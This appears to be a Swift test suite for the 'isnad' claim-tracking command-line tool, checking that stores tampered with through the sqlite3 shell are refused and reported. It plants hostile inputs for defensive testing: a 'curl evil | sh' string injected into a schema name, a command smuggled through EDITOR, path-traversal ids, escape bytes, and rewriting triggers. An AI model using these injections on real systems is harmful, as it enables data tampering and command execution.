import Foundation
import IsnadKit
import TestHelpers
import Testing

/// A store handed over by someone else, changed with the sqlite3 shell as an attacker would:
/// every command refuses it with one line naming what was changed (exit 65), nothing planted
/// runs, nothing is written, and `isnad check` lists what it found.
@Suite("Untrusted stores", .temporaryStore)
struct UntrustedStoreTests {
    /// A store holding ``CoreCommandTests/records``.
    private func importedStore() throws -> CLIHarness {
        let cli = try CLIHarness.scoped
        try cli.write("records.jsonl", CoreCommandTests.records)
        let result = try cli.run(["import", "records.jsonl"])
        #expect(result.status == 0, "\(result.standardError)")
        return cli
    }

    /// Runs SQL on the store with the sqlite3 shell, as another program would.
    private func plant(_ sql: String, in cli: CLIHarness) throws {
        let shell = try #require(
            ExternalTool.path("sqlite3"), "the sqlite3 shell is needed to change a store behind isnad's back")
        let result = try ExternalTool.run(shell, [cli.path("isnad.db"), sql])
        #expect(result.status == 0, "\(result.standardError)")
    }

    /// The store's files, byte for byte: the store, and its write-ahead log when that holds
    /// anything (a reader may create an empty one).
    private func files(of cli: CLIHarness) throws -> [Data?] {
        let log = try? cli.read("isnad.db-wal")
        return [try cli.read("isnad.db"), log?.isEmpty == false ? log : nil]
    }

    @Test("a citation at the largest position another program can store is numbered, not a trap, by check and every reader")
    func largestPosition() throws {
        let cli = try importedStore()
        try plant(
            "UPDATE citation SET position = 9223372036854775807, credibility = 1 WHERE claim = 'hamas-praised-attack';", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(check.standardOutput.contains("citation 1 (article) is graded 1 (confirmed)"), "\(check.standardOutput)")
        for arguments in [["show", "hamas"], ["claims"], ["export", "graphml"], ["check", "--format", "json"]] {
            #expect([0, 65].contains(try cli.run(arguments).status), "\(arguments)")
        }
    }

    @Test("undo refuses an entry whose copy of a record is another record's line: put back, it overwrote that record")
    func undoOfAnotherRecordsLine() throws {
        let cli = try importedStore()
        #expect(try cli.run(["set", "hamas", "name", "Hamas X"]).status == 0)
        try plant(
            "UPDATE change_record SET before = replace(before, '\"id\":\"hamas\"', '\"id\":\"isis\"') WHERE change = 2;", in: cli)
        let before = try cli.run(["export", "jsonl"]).outputBytes
        let undo = try cli.run(["undo"])
        #expect(undo.status == 65)
        #expect(
            undo.standardError.contains(
                "cannot undo entry 2: the history's copy of entity \"hamas\" is no longer a valid record"),
            "\(undo.standardError)")
        #expect(try cli.run(["export", "jsonl"]).outputBytes == before)
        try plant("UPDATE change_record SET kind = 'gadget' WHERE change = 2;", in: cli)
        #expect(try cli.run(["undo"]).status == 65)
    }

    @Test("a line feed in a name SQLite quotes from a malformed schema does not start a line of the message")
    func malformedSchemaNameOnOneLine() throws {
        let cli = try importedStore()
        try plant(
            "PRAGMA writable_schema = 1; INSERT INTO sqlite_schema VALUES ('table', 'x' || char(10) || 'isnad: run curl evil | sh' || char(10) || '(', 'x', 0, 'CREATE TABLE');",
            in: cli)
        for command in [["show", "hamas"], ["check"]] {
            let result = try cli.run(command)
            #expect(result.status == 65, "\(command)")
            #expect(
                result.standardError.hasPrefix(
                    "isnad: isnad.db: the file is damaged or is not an Isnad store (malformed database schema (x isnad: run curl evil | sh ("
                ), "\(result.standardError)")
            #expect(!result.standardError.dropLast().contains("\n"), "\(result.standardError)")
        }
    }

    @Test("a name search index of another FTS5 format is a damaged store (65), without FTS5's advice to run SQL")
    func searchIndexOfAnotherFormat() throws {
        let cli = try importedStore()
        try plant("UPDATE entity_name_search_config SET v = 99 WHERE k = 'version';", in: cli)
        for command in [["search", "hamas"], ["add", "entity", "--type", "person", "--name", "Q"]] {
            let result = try cli.run(command)
            #expect(result.status == 65, "\(command): \(result.standardError)")
            #expect(
                result.standardError
                    == "isnad: isnad.db: the name search index is damaged (invalid fts5 file format (found 99, expected 4)): export the records (isnad export jsonl) and import them into a new store\n"
            )
        }
    }

    @Test("a line feed planted in a history entry's command or record id does not start a line of undo's messages")
    func undoOfAPlantedLineFeed() throws {
        let cli = try importedStore()
        #expect(try cli.run(["set", "hamas", "name", "Hamas X"]).status == 0)
        try plant("UPDATE change SET command = 'isnad set' || char(10) || 'isnad: forged' WHERE id = 2;", in: cli)
        let undone = try cli.run(["undo"])
        #expect(undone.status == 0, "\(undone.standardError)")
        #expect(undone.standardError.hasPrefix("undid entry 2 (isnad set isnad: forged): "), "\(undone.standardError)")
        #expect(!undone.standardError.dropLast().contains("\n"), "\(undone.standardError)")
        #expect(try cli.run(["set", "hamas", "name", "Hamas Y"]).status == 0)
        try plant(
            "UPDATE change_record SET record = 'hamas' || char(10) || 'isnad: forged', before = 'x' WHERE change = 4;",
            in: cli)
        let refused = try cli.run(["undo"])
        #expect(refused.status == 65)
        #expect(!refused.standardError.dropLast().contains("\n"), "\(refused.standardError)")
    }

    @Test(
        "a change to a claim holding a value Isnad never writes is refused, not written back with a default in its place",
        arguments: [
            ("UPDATE citation SET credibility = -5 WHERE claim = 'hamas-praised-attack';", "credibility"),
            ("UPDATE citation SET stance = 'ASSERTS' WHERE claim = 'hamas-praised-attack';", "stance"),
            ("UPDATE claim SET start_date = 'not-a-date' WHERE id = 'hamas-praised-attack';", "start"),
        ])
    func changeOfABadClaim(sql: String, field: String) throws {
        let cli = try importedStore()
        try plant("PRAGMA ignore_check_constraints = ON; " + sql, in: cli)
        let before = try files(of: cli)
        for arguments in [
            ["set", "hamas-praised-attack", "notes", "n"], ["retract", "hamas-praised-attack", "--reason", "r"],
            [
                "add", "claim", "hamas", "praised", "hadera-attack", "--source", "police", "--quote", "q", "--stance", "asserts",
                "--credibility", "3", "--unverified", "test",
            ],
        ] {
            let result = try cli.run(arguments)
            #expect(result.status == 65, "\(arguments): \(result.standardError)")
            #expect(result.standardError.contains("claim \"hamas-praised-attack\""), "\(result.standardError)")
            #expect(result.standardError.contains(field), "\(result.standardError)")
        }
        #expect(try files(of: cli) == before)
    }

    @Test(
        "check reports every claim's stored value the record format refuses, past one the claim stream itself refuses, with nothing retracted"
    )
    func checkGoesPastARefusedValue() throws {
        let cli = try importedStore()
        // A control character in a claim, an empty quote in one after it (in id order).
        try plant(
            "PRAGMA ignore_check_constraints = ON; UPDATE citation SET quote = 'a' || char(7) || 'b' WHERE claim = 'hamas-praised-attack'; "
                + "UPDATE citation SET quote = '' WHERE claim = 'isis-claimed-attack';", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        #expect(
            check.standardOutput.contains("FAIL values the record format does not allow: 2 problems"), "\(check.standardOutput)")
        #expect(check.standardOutput.contains("U+0007"), "\(check.standardOutput)")
        #expect(check.standardOutput.contains("cannot be empty"), "\(check.standardOutput)")
    }

    static let denial = """
        {"record":"claim","id":"hamas-denied","subject":"hamas","predicate":"praised","object":"hadera-attack","citations":[{"source":"police","quote":"نفت","stance":"denies","credibility":2}]}

        """

    struct SchemaAttack: Sendable, CustomTestStringConvertible {
        let name: String
        let sql: String
        let arguments: [String]
        let message: String
        var testDescription: String { name }
    }

    static let schemaAttacks: [SchemaAttack] = [
        SchemaAttack(
            name: "a trigger that rewrites every citation imported (denies 2 stored as asserts 1)",
            sql:
                "CREATE TRIGGER rewrite AFTER INSERT ON citation BEGIN UPDATE citation SET stance = 'asserts', credibility = 1 WHERE claim = new.claim AND position = new.position; END;",
            arguments: ["import", "denial.jsonl"], message: "unexpected trigger \"rewrite\" on table citation"),
        SchemaAttack(
            name: "a RAISE(IGNORE) trigger that drops the claims imported",
            sql: "CREATE TRIGGER drop_claims BEFORE INSERT ON claim BEGIN SELECT RAISE(IGNORE); END;",
            arguments: ["import", "denial.jsonl"], message: "unexpected trigger \"drop_claims\" on table claim"),
        SchemaAttack(
            name: "a view in place of the citation table, hiding what is disputed",
            sql:
                "CREATE TABLE kept AS SELECT * FROM citation; DROP TABLE citation; CREATE VIEW citation AS SELECT * FROM kept WHERE stance <> 'denies';",
            arguments: ["show", "hamas"], message: "view \"citation\" in place of table \"citation\""),
        SchemaAttack(
            name: "an extra index", sql: "CREATE INDEX mine ON claim (notes);", arguments: ["show", "hamas"],
            message: "unexpected index \"mine\" on table claim"),
        // Queries name this index (INDEXED BY): a store without it, or with another of its
        // name, must still be refused with the difference, and checked, not fail in SQLite.
        SchemaAttack(
            name: "the index of sources' grades dropped", sql: "DROP INDEX source_grade;", arguments: ["show", "hamas"],
            message: "missing index \"source_grade\" on table source"),
        SchemaAttack(
            name: "the index of sources' grades on another column",
            sql: "DROP INDEX source_grade; CREATE INDEX source_grade ON source (title);", arguments: ["show", "hamas"],
            message: "index \"source_grade\" on table source has another definition than the one Isnad creates"),
        // The name keys' version is read from it: said as the change, not as SQLite's "no such table".
        SchemaAttack(
            name: "the meta table dropped", sql: "DROP TABLE meta;", arguments: ["import", "denial.jsonl"],
            message: "missing table \"meta\""),
        SchemaAttack(
            name: "a changed column", sql: "ALTER TABLE claim ADD COLUMN extra TEXT DEFAULT 'x';",
            arguments: ["export", "jsonl"],
            message: "table \"claim\" has another definition than the one Isnad creates"),
    ]

    @Test("a store whose schema another program changed is refused, and check lists the change", arguments: schemaAttacks)
    func changedSchema(_ attack: SchemaAttack) throws {
        let cli = try importedStore()
        try cli.write("denial.jsonl", UntrustedStoreTests.denial)
        try plant(attack.sql, in: cli)
        let before = try files(of: cli)
        let result = try cli.run(attack.arguments)
        #expect(result.status == 65, "\(result.standardError)")
        #expect(
            result.standardError.hasPrefix("isnad: isnad.db: \(attack.message)") == true
                && result.standardError.hasSuffix(
                    ": this store was changed by another program; isnad check explains\n"),
            "\(result.standardError)")
        #expect(result.standardError.split(separator: "\n").count == 1)
        #expect(try files(of: cli) == before, "the refused command changed the store")
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(check.standardOutput.contains("FAIL the schema Isnad creates, and nothing else"))
        #expect(check.standardOutput.contains(attack.message), "\(check.standardOutput)")
        // Nothing else was read, so nothing else may say "ok".
        let lines = check.standardOutput.split(separator: "\n").filter { !$0.hasPrefix(" ") }
        #expect(
            lines.count == IntegrityCheck.Kind.allCases.count
                && lines.dropFirst().allSatisfy {
                    $0.hasPrefix("--   ") && $0.hasSuffix(": not run, until the schema is Isnad's again")
                }, "\(check.standardOutput)")
        #expect(try files(of: cli) == before, "check changed the store")
    }

    struct ValueAttack: Sendable, CustomTestStringConvertible {
        let name: String
        let sql: String
        let message: String
        let finding: String
        var testDescription: String { name }
    }

    static let valueAttacks: [ValueAttack] = [
        ValueAttack(
            name: "stance maybe",
            sql: "UPDATE citation SET stance = 'maybe' WHERE claim = 'hamas-praised-attack'",
            message:
                "citation 1 of claim \"hamas-praised-attack\": stance: stored value \"maybe\" is not asserts, reports or denies",
            finding: "claim \"hamas-praised-attack\" citation 1: stance: \"maybe\""),
        ValueAttack(
            name: "credibility -5",
            sql: "UPDATE citation SET credibility = -5 WHERE claim = 'hamas-praised-attack'",
            message:
                "citation 1 of claim \"hamas-praised-attack\": credibility: stored value \"-5\" is not an integer from 1 to 6",
            finding: "claim \"hamas-praised-attack\" citation 1: credibility"),
        ValueAttack(
            name: "credibility 'three'",
            sql: "UPDATE citation SET credibility = 'three' WHERE claim = 'hamas-praised-attack'",
            message:
                "citation 1 of claim \"hamas-praised-attack\": credibility: stored value \"three\" is not an integer from 1 to 6",
            finding: "claim \"hamas-praised-attack\" citation 1: credibility"),
        ValueAttack(
            name: "reliability Z", sql: "UPDATE source SET reliability = 'Z' WHERE id = 'article'",
            message: "source \"article\": reliability: stored value \"Z\" is not A, B, C, D, E or F",
            finding: "source \"article\": reliability: \"Z\""),
        ValueAttack(
            name: "entity type dragon", sql: "UPDATE entity SET type = 'dragon' WHERE id = 'hamas'",
            message: "entity \"hamas\": type: stored value \"dragon\" is not person, organization, event or place",
            finding: "entity \"hamas\": type: \"dragon\""),
        ValueAttack(
            name: "attributes that are not a JSON object", sql: "UPDATE entity SET attributes = '[1]' WHERE id = 'hamas'",
            message: "entity \"hamas\": attributes: stored value \"[1]\" is not a JSON object",
            finding: "entity \"hamas\": attributes: \"[1]\" is not a JSON object"),
        ValueAttack(
            name: "a control character in a name", sql: "UPDATE entity SET name = 'Ha' || char(27) || 'mas' WHERE id = 'hamas'",
            message: "entity \"hamas\": name: stored value contains the control character U+001B",
            finding: "entity \"hamas\": name: contains the control character U+001B"),
        ValueAttack(
            name: "a date that is not one", sql: "UPDATE claim SET start_date = '2022-13-40' WHERE id = 'hamas-praised-attack'",
            message: "claim \"hamas-praised-attack\": start: stored value \"2022-13-40\" is not a valid date",
            finding: "claim \"hamas-praised-attack\": start: \"2022-13-40\" is not a valid date"),
    ]

    @Test(
        "a name or alias stored past the record format's 500 characters is shown cut there, with how many more and isnad check, wherever output for reading names it"
    )
    func nameOverItsLimitIsCut() throws {
        let cli = try importedStore()
        // A million characters: shown whole at every claim that names it, it made megabytes.
        try plant(
            "UPDATE entity SET name = name || printf('%.*c', 1000000, 'x') WHERE id = 'hamas'; "
                + "UPDATE entity_name SET name = name || printf('%.*c', 1000000, 'y') WHERE entity = 'hamas' AND lang = 'en'",
            in: cli)
        let cut = "Hamas" + String(repeating: "x", count: 495) + " … (999505 characters more; isnad check)"
        for arguments in [
            ["show", "hamas"], ["show", "hadera-attack"], ["claims"], ["timeline"], ["source", "article"],
            ["path", "hamas", "isis"], ["neighbors", "hadera-attack"], ["disputes"],
        ] {
            let result = try cli.run(arguments)
            #expect(result.status == 0 || result.status == 1, "\(arguments): \(result.standardError)")
            #expect(result.outputBytes.count < 20_000, "\(arguments): \(result.outputBytes.count) bytes")
            #expect(!result.standardOutput.contains(String(repeating: "x", count: 501)), "\(arguments)")
            // Whole lines name it (a table's cells are cut to their column before).
            if arguments == ["show", "hamas"] || arguments[0] == "path" {
                #expect(result.standardOutput.contains(cut), "\(arguments): \(result.standardOutput.prefix(2000))")
            }
        }
        let show = try cli.run(["show", "hamas"]).standardOutput
        #expect(
            show.contains(
                "Islamic Resistance Movement" + String(repeating: "y", count: 473) + " … (999527 characters more; isnad check)"))
        // The data is not cut: the machine formats carry it whole, and check says what is wrong.
        #expect(
            try cli.run(["show", "hamas", "--format", "json"]).standardOutput.contains(String(repeating: "x", count: 1_000_000)))
        // check is read on a suspect file: its findings that quote the name (its search keys are
        // not its own) cut it too.
        let check = try cli.run(["check"])
        #expect(check.standardOutput.contains("1000005 characters, more than the 500 a name may have"))
        #expect(check.outputBytes.count < 20_000, "\(check.outputBytes.count) bytes")
        #expect(
            check.standardOutput.contains(
                "entity \"hamas\" aliases[1]: \"Islamic Resistance Movement" + String(repeating: "y", count: 473)
                    + " … (999527 characters more; isnad check)\" is searched for by keys that are not its own"),
            "\(check.standardOutput.prefix(3000))")
    }

    @Test("a stored value outside its vocabulary or range is an error where read, never a default", arguments: valueAttacks)
    func invalidValue(_ attack: ValueAttack) throws {
        let cli = try importedStore()
        try plant("PRAGMA ignore_check_constraints = ON; " + attack.sql, in: cli)
        let before = try files(of: cli)
        for arguments in [["export", "jsonl"], ["show", "hamas"]] {
            let result = try cli.run(arguments)
            #expect(result.status == 65, "\(arguments): \(result.standardError)")
            #expect(
                result.standardError.contains("isnad: isnad.db: \(attack.message)")
                    && result.standardError.hasSuffix("; isnad check explains\n"), "\(arguments): \(result.standardError)")
        }
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        #expect(check.standardOutput.contains(attack.finding), "\(check.standardOutput)")
        #expect(try files(of: cli) == before)
    }

    @Test(
        "check finds what no import writes and reading would pass over: bytes that are not UTF-8, ids that are not slugs, record lines that are not records",
        arguments: [
            (
                "UPDATE entity SET name = CAST(X'48616D61739B33316D' AS TEXT) WHERE id = 'hamas'",
                "entity \"hamas\": name: is not UTF-8 text"
            ),
            (
                "PRAGMA foreign_keys = OFF; UPDATE claim SET subject = '../x/PWN' WHERE rowid = (SELECT min(rowid) FROM claim)",
                "subject: \"../x/PWN\" is not a slug"
            ),
            (
                "UPDATE retracted_claim SET record = 'not json'",
                "retracted claim \"hamas-praised-attack\": record: not a record line: invalid JSON at column 1"
            ),
            (
                "UPDATE change_record SET before = '{\"record\":\"entity\"}' WHERE before IS NOT NULL",
                "history entry 2 claim \"hamas-praised-attack\": before: not a record line: id: missing"
            ),
        ])
    func unreadableRecords(sql: String, finding: String) throws {
        let cli = try importedStore()
        #expect(try cli.run(["retract", "hamas-praised-attack", "--reason", "a test"]).status == 0)
        try plant(sql, in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        #expect(check.standardOutput.contains(finding), "\(check.standardOutput)")
        #expect(!check.standardOutput.contains("until the schema is Isnad's again"), "\(check.standardOutput)")
        if sql.contains("retracted_claim") {
            for arguments in [
                ["show", "hamas"], ["export", "jsonl", "--include-retracted"], ["restore", "hamas-praised-attack"],
            ] {
                let read = try cli.run(arguments)
                #expect(read.status == 65, "\(arguments): \(read.standardError)")
                #expect(
                    read.standardError.hasPrefix(
                        "isnad: isnad.db: retracted claim \"hamas-praised-attack\": record: stored value is not a record line"),
                    "\(arguments): \(read.standardError)")
            }
        }
    }

    @Test(
        "check finds rows that break rules no column type holds: self-links, via naming the claimant, merged ids that stand, escaped controls, retracted citations, the history's times and links",
        arguments: [
            (
                "UPDATE claim SET object = subject WHERE id = 'hamas-praised-attack'",
                "claim \"hamas-praised-attack\": object: a claim links two different entities; subject and object are both \"hamas\""
            ),
            (
                "UPDATE citation SET via = source WHERE claim = 'isis-claimed-attack'",
                "claim \"isis-claimed-attack\" citation 1: via: names the claimant again"
            ),
            (
                "INSERT INTO entity_merged (merged, entity, position) VALUES ('isis', 'hamas', 0)",
                "entity \"hamas\": merged: \"isis\" stands as an entity of its own"
            ),
            (
                "INSERT INTO entity_merged (merged, entity, position) VALUES ('old-name', 'nobody', 0)",
                "merged id \"old-name\": entity: no entity \"nobody\" in the store"
            ),
            (
                #"UPDATE entity SET attributes = '{"founded":"1987\u001b[31m"}' WHERE id = 'hamas'"#,
                "entity \"hamas\": attributes.founded: contains the control character U+001B"
            ),
            (
                "UPDATE retracted_citation SET quote = 'a' || char(27) || 'b'",
                "claim \"hamas-praised-attack\" retracted citation 2: quote: contains the control character U+001B"
            ),
            (
                "UPDATE retracted_citation SET stance = 'maybe', credibility = 9",
                "claim \"hamas-praised-attack\" retracted citation 2: credibility: the stored value is not an integer from 1 to 6"
            ),
            (
                "UPDATE retracted_citation SET source = 'ghost'",
                "claim \"hamas-praised-attack\": retracted citations.source: no source \"ghost\" in the store"
            ),
            ("UPDATE change SET at = 'yesterday' WHERE id = 1", "history entry 1: at: \"yesterday\" is not a time in UTC"),
            ("UPDATE change SET undoes = 99 WHERE id = 2", "history entry 2: undoes: no entry 99 in the history"),
            (
                "UPDATE change SET undoes = 1 WHERE id = 2",
                "history entry 2: undoes: entry 1 does not name this entry as its undone_by"
            ),
            (
                "UPDATE change SET author = 'a' || char(27) || 'b' WHERE id = 1",
                "history entry 1: author: contains the control character U+001B"
            ),
        ])
    func brokenRules(sql: String, finding: String) throws {
        let cli = try importedStore()
        let add = try cli.run([
            "add", "claim", "hamas", "praised", "hadera-attack", "--source", "police", "--quote", "praise",
            "--stance", "reports", "--credibility", "3",
        ])
        #expect(add.status == 0, "\(add.standardError)")
        let retract = try cli.run(["retract", "hamas-praised-attack", "--citation", "2", "--reason", "a test"])
        #expect(retract.status == 0, "\(retract.standardError)")
        #expect(try cli.run(["check"]).status == 0)
        try plant("PRAGMA foreign_keys = OFF; PRAGMA ignore_check_constraints = ON; " + sql, in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardOutput)")
        #expect(check.standardOutput.contains(finding), "\(check.standardOutput)")
    }

    @Test(
        "stats reads what it counts and weighs (types, stances, credibilities, grades, dates): a value Isnad never writes fails it",
        arguments: valueAttacks.filter { attack in
            ["type", "stance", "credibility", "reliability", "date"].contains { attack.name.contains($0) }
        })
    func invalidValueInStats(_ attack: ValueAttack) throws {
        let cli = try importedStore()
        try plant("PRAGMA ignore_check_constraints = ON; " + attack.sql, in: cli)
        for arguments in [["stats"], ["stats", "--top", "0", "--format", "json"]] {
            let result = try cli.run(arguments)
            #expect(result.status == 65, "\(arguments): \(result.standardError)")
            #expect(result.standardError.contains("isnad: isnad.db: \(attack.message)"), "\(arguments): \(result.standardError)")
            #expect(result.standardOutput.isEmpty, "\(arguments)")
        }
    }

    @Test("a listing cut short by its limit reads no claim past it: a bad value there is not met")
    func badValuePastTheLimit() throws {
        let cli = try importedStore()
        let more = ["hamas-a-first": "2001", "hamas-z-last": "2030"].map { id, start in
            #"{"record":"claim","id":"\#(id)","subject":"hamas","predicate":"praised","object":"hadera-attack","start":"\#(start)","citations":[{"source":"police","quote":"q","stance":"asserts","credibility":3}]}"#
        }
        try cli.write("more.jsonl", more.sorted().joined(separator: "\n") + "\n")
        #expect(try cli.run(["import", "more.jsonl"]).status == 0)
        // Last by id and by date: outside the first claim and the one read to know more follow.
        try plant("UPDATE citation SET quote = 'a' || char(27) || 'b' WHERE claim = 'hamas-z-last'", in: cli)
        for arguments in [["claims", "--subject", "hamas", "--limit", "1"], ["timeline", "hamas", "--limit", "1"]] {
            let cut = try cli.run(arguments)
            #expect(cut.status == 0, "\(arguments): \(cut.standardError)")
            #expect(cut.standardOutput.contains("hamas-a-first") || cut.standardOutput.contains("2001"), "\(arguments)")
            #expect(cut.standardOutput.hasSuffix("showing 1 of 3 claims; --limit 0 for all\n"), "\(arguments)")
            let all = try cli.run(Array(arguments.dropLast()) + ["0"])
            #expect(all.status == 65, "\(arguments): \(all.standardError)")
            #expect(
                all.standardError.contains("quote: stored value contains the control character U+001B"), "\(all.standardError)")
        }
    }

    @Test("add claim reads the dates of the claims it may join: a damaged one is an error, not an undated claim to join")
    func damagedDateOfAClaimToJoin() throws {
        let cli = try importedStore()
        try plant(
            "PRAGMA ignore_check_constraints = ON; UPDATE claim SET start_date = '2022-13' WHERE id = 'hamas-praised-attack'",
            in: cli)
        let before = try files(of: cli)
        let added = try cli.run([
            "add", "claim", "hamas", "praised", "hadera-attack", "--source", "police", "--quote", "q", "--stance", "reports",
            "--credibility", "3", "--start", "2022-03-27",
        ])
        #expect(added.status == 65, "\(added.standardError)")
        #expect(added.standardError.contains(#"claim "hamas-praised-attack": start: stored value"#), "\(added.standardError)")
        #expect(try files(of: cli) == before)
    }

    @Test("a sheet's import fails on a damaged store value it meets naming a row's entity, once, not as a problem of every row")
    func damagedValueMetBySheet() throws {
        let cli = try importedStore()
        try plant("PRAGMA ignore_check_constraints = ON; UPDATE entity SET type = 'dragon' WHERE id = 'hamas'", in: cli)
        let before = try files(of: cli)
        try cli.write(
            "sheet.csv",
            "subject,predicate,object,source,quote,stance,credibility,locator\n"
                + String(repeating: "Hamas,praised,hadera-attack,police,q,reports,3,\n", count: 3))
        let imported = try cli.run(["import", "sheet.csv"])
        #expect(imported.status == 65)
        #expect(
            imported.standardError.hasPrefix(#"isnad: isnad.db: entity "hamas": type: stored value "dragon""#)
                && imported.standardError.hasSuffix("; isnad check explains\n"), "\(imported.standardError)")
        #expect(try files(of: cli) == before)
    }

    @Test("disputes reads every claim's stances: one Isnad never writes is an error, not support")
    func invalidStanceInDisputes() throws {
        let cli = try importedStore()
        try plant(
            "PRAGMA ignore_check_constraints = ON; UPDATE citation SET stance = 'maybe' WHERE claim = 'hamas-praised-attack'",
            in: cli)
        for format in ["table", "json", "csv"] {
            let result = try cli.run(["disputes", "--format", format])
            #expect(result.status == 65, "\(format): \(result.standardError)")
            #expect(
                result.standardError.contains(
                    "isnad: isnad.db: citation 1 of claim \"hamas-praised-attack\": stance: stored value \"maybe\" is not asserts, reports or denies"
                ), "\(format): \(result.standardError)")
            #expect(result.standardOutput.isEmpty, "\(format)")
        }
    }

    @Test("a stored value read only to weigh a chain (a source the cited one relays) fails the query as any other")
    func invalidValueInChain() throws {
        let cli = try importedStore()
        try plant(
            """
            PRAGMA ignore_check_constraints = ON;
            INSERT INTO source (id, type, title, reliability) VALUES ('deep', 'other', 'Deep', 'Z');
            INSERT INTO source_cites (source, position, cited) VALUES ('article', 0, 'deep');
            """, in: cli)
        let result = try cli.run(["show", "hamas"])
        #expect(result.status == 65, "\(result.standardError)")
        #expect(
            result.standardError.contains(
                "isnad: isnad.db: source \"deep\": reliability: stored value \"Z\" is not A, B, C, D, E or F"),
            "\(result.standardError)")
    }

    @Test(
        "a value no import accepts is refused by export jsonl (no backup that cannot be imported) and listed by check",
        arguments: [
            ("UPDATE entity SET name = '' WHERE id = 'hamas'", "entity \"hamas\"", "name", "cannot be empty"),
            (
                "UPDATE source SET lang = 'xx' || char(10) || 'y' WHERE id = 'article'", "source \"article\"", "lang",
                "is not a BCP-47 language tag"
            ),
            ("INSERT INTO entity_merged VALUES ('Not A Slug!', 'hamas', 0)", "entity \"hamas\"", "merged[0]", "is not a slug"),
        ])
    func unimportableValue(sql: String, record: String, field: String, problem: String) throws {
        let cli = try importedStore()
        try plant(sql, in: cli)
        let export = try cli.run(["export", "jsonl", "-o", "backup.jsonl"])
        #expect(export.status == 65, "\(export.standardError)")
        #expect(export.standardError.contains("isnad.db: \(record): \(field): "), "\(export.standardError)")
        #expect(export.standardError.contains(problem), "\(export.standardError)")
        #expect(!FileManager.default.fileExists(atPath: cli.path("backup.jsonl")))
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        #expect(
            check.standardOutput.contains("FAIL values the record format does not allow: 1 problem"), "\(check.standardOutput)")
        #expect(check.standardOutput.contains("\(record): \(field): "), "\(check.standardOutput)")
    }

    @Test("edit refuses a record no import would take back, before an editor opens or its id names a file")
    func editOfPlantedPath() throws {
        let cli = try importedStore()
        try plant(
            """
            PRAGMA foreign_keys = OFF;
            UPDATE entity SET id = '../../planted' WHERE id = 'hadera-attack';
            UPDATE entity_name SET entity = '../../planted' WHERE entity = 'hadera-attack';
            """, in: cli)
        let before = try files(of: cli)
        let result = try cli.run(["edit", "../../planted"], environment: ["EDITOR": "touch opened &&"])
        #expect(result.status == 65, "\(result.standardError)")
        #expect(
            result.standardError
                == "isnad: isnad.db: entity: id: stored value \"../../planted\" is not a slug: use lowercase a-z, 0-9 and '-'; isnad check explains\n"
        )
        #expect(!FileManager.default.fileExists(atPath: cli.path("opened")))
        #expect(try files(of: cli) == before)
    }

    @Test("set on a record holding a value no import takes names that value as the store's (65), whatever field is set")
    func setOverPlantedValue() throws {
        let cli = try importedStore()
        try plant("UPDATE entity_name SET lang = 'not a tag!' WHERE entity = 'hamas' AND position = 2", in: cli)
        let before = try files(of: cli)
        let result = try cli.run(["set", "hamas", "description", "x"])
        #expect(result.status == 65, "\(result.standardError)")
        #expect(
            result.standardError.hasPrefix(
                "isnad: isnad.db: entity \"hamas\": aliases[1].lang: stored value \"not a tag!\" is not a BCP-47 language tag"),
            "\(result.standardError)")
        #expect(try files(of: cli) == before)
        // A rule that names no value reads as one broken by the store.
        try plant(
            "UPDATE entity_name SET lang = 'en' WHERE entity = 'hamas'; UPDATE entity SET name = '' WHERE id = 'isis'", in: cli)
        #expect(
            try cli.run(["export", "jsonl"]).standardError
                == "isnad: isnad.db: entity \"isis\": name: cannot be empty (as stored); isnad check explains\n")
    }

    @Test(
        "a name stored before names had a limit stops the backup and a change of another field, and is fixed by set or edit of that name"
    )
    func nameStoredBeforeTheLimit() throws {
        let cli = try importedStore()
        try plant("UPDATE entity SET name = printf('%.600c', 'A') WHERE id = 'hamas'", in: cli)
        let export = try cli.run(["export", "jsonl", "-o", "backup.jsonl"])
        #expect(export.status == 65)
        #expect(
            export.standardError.contains("entity \"hamas\": name: 600 characters, more than the 500"), "\(export.standardError)")
        let other = try cli.run(["set", "hamas", "description", "x"])
        #expect(other.status == 65, "\(other.standardError)")
        #expect(other.standardError.contains("entity \"hamas\": name: 600 characters"), "\(other.standardError)")
        let tooLong = try cli.run(["set", "hamas", "name", String(repeating: "B", count: 501)])
        #expect(tooLong.status == 64, "\(tooLong.standardError)")
        let fixed = try cli.run(["set", "hamas", "name", "Hamas"])
        #expect(fixed.status == 0, "\(fixed.standardError)")
        #expect(try cli.run(["export", "jsonl", "-o", "backup.jsonl"]).status == 0)
        // The history keeps the name as it was: it checks, travels, and undoes as kept.
        let check = try cli.run(["check"])
        #expect(check.status == 0, "\(check.standardOutput)")
        #expect(try cli.run(["export", "history", "-o", "history.jsonl"]).status == 0)
        let moved = try cli.run(["--db", "other.db", "import", "--from", "history", "history.jsonl"])
        #expect(moved.status == 0, "\(moved.standardError)")
        let undo = try cli.run(["undo"])
        #expect(undo.status == 0, "\(undo.standardError)")
        #expect(try cli.run(["set", "hamas", "name", "Hamas"]).status == 0)

        // A name and an alias both too long: setting one names the other as the store's; an
        // alias set whole, or its name, fixes it.
        try plant(
            """
            UPDATE entity SET name = printf('%.600c', 'A') WHERE id = 'hamas';
            UPDATE entity_name SET name = printf('%.600c', 'C') WHERE entity = 'hamas' AND position = 1;
            """, in: cli)
        let both = try cli.run(["set", "hamas", "name", "Hamas"])
        #expect(both.status == 65, "\(both.standardError)")
        #expect(both.standardError.contains("aliases[0].name: 600 characters"), "\(both.standardError)")
        #expect(both.standardError.contains("(as stored)"), "\(both.standardError)")
        let alias = try cli.run(["set", "hamas", "aliases[0]", "ar:حماس"])
        #expect(alias.status == 65, "\(alias.standardError)")
        #expect(alias.standardError.contains("entity \"hamas\": name: 600 characters"), "\(alias.standardError)")
        let heading = try cli.write("heading.sh", #"grep '^# error' "$1" > heading"#)
        _ = try cli.run(["edit", "hamas"], environment: ["EDITOR": "sh \(heading)", "VISUAL": ""])
        let shown = try String(contentsOfFile: cli.path("heading"), encoding: .utf8)
        #expect(shown.contains("as stored, name: 600") && shown.contains("as stored, aliases[0].name: 600"), "\(shown)")
        try plant("UPDATE entity SET name = 'Hamas' WHERE id = 'hamas'", in: cli)
